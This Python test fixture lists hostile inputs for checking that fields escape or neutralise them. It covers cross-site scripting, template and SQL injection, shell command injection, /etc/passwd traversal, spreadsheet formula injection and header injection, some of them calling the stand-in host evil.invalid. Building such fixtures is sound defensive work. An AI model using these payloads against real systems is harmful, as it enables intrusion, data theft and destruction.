"""Payloads: what a hostile operator may write into any field, each with its own mark.

The marks (`hz01` ...) are plain letters: where a payload is shown at all, its mark is there to be
found, and nothing else of it may have had an effect.
"""

from __future__ import annotations

ELSEWHERE = "http://evil.invalid"
"""Where a payload that works would call; `.invalid` is no host anywhere (RFC 2606)."""

_SCRIPTS = (
    "<script>alert(1)</script>",
    "<script src={evil}/x.js></script>",
    "</script><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0b>alert(1)</script>",
    "<script type=module>import '{evil}/m.js'</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
_HANDLERS = (
    "<img src=x onerror=alert(1)>",
    '"><img src={evil}/i.png onerror=alert(1)>',
    "' onfocus=alert(1) autofocus x='",
    '" onmouseover="alert(1)" x="',
    "` onload=alert(1) `",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
)
_ELEMENTS = (
    "<iframe src={evil}></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data={evil}/o></object>",
    "<embed src={evil}/e>",
    "<base href={evil}/>",
    "<meta http-equiv=refresh content='0;url={evil}'>",
    "<link rel=stylesheet href={evil}/s.css>",
    "<style>@import '{evil}/i.css';</style>",
    "<form action={evil}><input name=password></form>",
    "<a href=javascript:alert(1)>click</a>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>",
    "<div data-hx-get={evil} data-hx-trigger=load>x</div>",
    "<div hx-get=/office hx-trigger=load>x</div>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
)
_LANGUAGES = (
    "{{{{7*7}}}}{{% raw %}}",
    "{{{{ ''.__class__.__mro__ }}}}",
    "${{7*7}} #{{7*7}} <%= 7*7 %>",
    "%(name)s %s {{0}} {{name}}",
    "' OR 1=1; DROP TABLE lead; --",
    "'; COPY (SELECT 1) TO '/tmp/hz'; --",
    "../../../../etc/passwd",
    "$(touch /tmp/hz) `id` ; ls |",
    "*a* a~9 [a TO z] text:*",
    "[bold red]rich[/bold red] [link={evil}]x[/link]",
    "\x1b[31mred\x1b]0;title\x07",
    'line one\nlevel=error\n{{"event":"forged"}}',
)
_FORMULAS = (
    '=HYPERLINK("{evil}","x")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/c calc'!A1",
    '"=1+1"',
)
_HEADERS = (
    "x\r\nBcc: everyone@evil.invalid",
    "x\nSubject: forged",
    "x\r\n\r\n<html>body",
    "END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged",
    "SUMMARY;X=1:a\\nb,c;d",
)
_LETTERS = (
    "\u202ereversed\u202c",
    "zero\u200bwidth\u2060joined\ufeff",
    "null\x00byte\x08back",
    "line\u2028separator\u2029paragraph",
    "\ud83d\ude00 emoji \U0001f1ed\U0001f1fa",
    "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 stacked",
    "W" * 5000,
    "word " * 1000,
    "\ufffe\uffff\ufdd0 no letters",
    "<" * 300,
    "&" * 300,
)

TEXTS: tuple[str, ...] = (
    tuple(
        text.format(evil=ELSEWHERE)
        for text in (
            *_SCRIPTS,
            *_HANDLERS,
            *_ELEMENTS,
            *_LANGUAGES,
            *_FORMULAS,
            *_HEADERS,
        )
    )
    + _LETTERS
)

LINKS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.invalid/x",
    "https://good.example@evil.invalid/",
    "https:\\\\evil.invalid\\x",
    "file:///etc/passwd",
    "http://127.0.0.1:22/",
    'https://evil.invalid/"onmouseover="alert(1)',
)
"""Deep links of the same operator: none of them may become an address to click."""


def marked(number: int) -> str:
    """The payload of a record with its mark in front and behind: hz07 ... hz07."""
    text = TEXTS[number % len(TEXTS)]
    return f"hz{number:02d} {text} hz{number:02d}"


def leading(number: int) -> str:
    """The payload first, for what acts at the beginning of a cell or a line, then its mark."""
    return f"{TEXTS[number % len(TEXTS)]} hz{number:02d}"
